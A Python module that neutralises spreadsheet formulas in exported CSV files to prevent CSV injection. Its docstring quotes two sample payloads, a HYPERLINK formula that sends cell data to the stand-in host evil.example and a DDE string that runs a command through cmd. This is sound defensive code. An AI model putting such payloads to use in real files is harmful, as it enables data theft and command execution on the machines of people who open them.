"""CSV files that leave the product, with spreadsheet formulas neutralised.

A customer's name, a ticket's text or a column of a user's own table is whatever someone typed;
written into a CSV as it is, ``=HYPERLINK("http://evil.example?"&A2, "Click")`` or
``@SUM(1+1)*cmd|' /C calc'!A0`` runs as a formula when a marketing analyst opens the file in a
spreadsheet (CSV injection). Following OWASP's guidance
(https://owasp.org/www-community/attacks/CSV_Injection), every *text* cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return is prefixed with a single quote, which
spreadsheets read as "this is text" and show without the quote. Two exceptions keep the data
usable and are not formulas: numeric columns are never touched (a real ``-3.5`` stays a
number), and a text cell that is only a sign, digits, spaces and dots (a phone number such
as ``+353 87 123 4567``, a signed amount such as ``-12.50``) cannot call a function or refer to
a cell, so it is left as it is. The quoting of separators, quotes and line breaks is the CSV
writer's (polars), so a formula cannot start after an embedded comma or newline either.

One function for every CSV that leaves the product: the dashboard's campaign and care
downloads (:mod:`cxbridge.dashboards.exports`) and every command-line export of people or
incidents (``cxbridge incidents --care … --export``, ``cxbridge churn score --out …csv``) call
:func:`neutralise_formulas` or :func:`write_csv` here.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import IO

import polars as pl

# a cell starting with one of these is read as a formula (or, for tab and CR, can be turned
# into one by the spreadsheet's import)
FORMULA_START = r"^[=+\-@\t\r]"
# ... except a plain signed number or phone number: no letters, no operators after the sign,
# so no function, no cell reference, no DDE
PLAIN_NUMBER = r"^[+-]?[0-9][0-9 .]*$"
QUOTE = "'"


def is_formula(text: str) -> bool:
    """Would a spreadsheet read this text cell as a formula (the rule of this module)?"""
    return bool(re.match(FORMULA_START, text)) and not re.match(PLAIN_NUMBER, text)


def neutralise_text(text: str | None) -> str | None:
    """One cell, neutralised as :func:`neutralise_formulas` does the whole frame."""
    return QUOTE + text if text is not None and is_formula(text) else text


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """``frame`` with every text cell that a spreadsheet would read as a formula prefixed with
    a single quote; numbers, dates and booleans are left as they are. Categorical and enum
    columns are text in a CSV: they are checked too (and come back as strings)."""
    text_columns = [name for name, dtype in frame.schema.items()
                    if dtype == pl.String or isinstance(dtype, pl.Categorical | pl.Enum)]
    if not text_columns:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).cast(pl.String).str.contains(FORMULA_START)
                & ~pl.col(name).cast(pl.String).str.contains(PLAIN_NUMBER))
        .then(pl.lit(QUOTE) + pl.col(name).cast(pl.String))
        .otherwise(pl.col(name).cast(pl.String))
        .alias(name)
        for name in text_columns
    )


def write_csv(frame: pl.DataFrame, target: Path | IO[bytes], *,
              include_header: bool = True) -> int:
    """Write ``frame`` as CSV to a path or a binary buffer, formulas neutralised; returns the
    number of data rows written."""
    neutralise_formulas(frame).write_csv(target, include_header=include_header)
    return frame.height
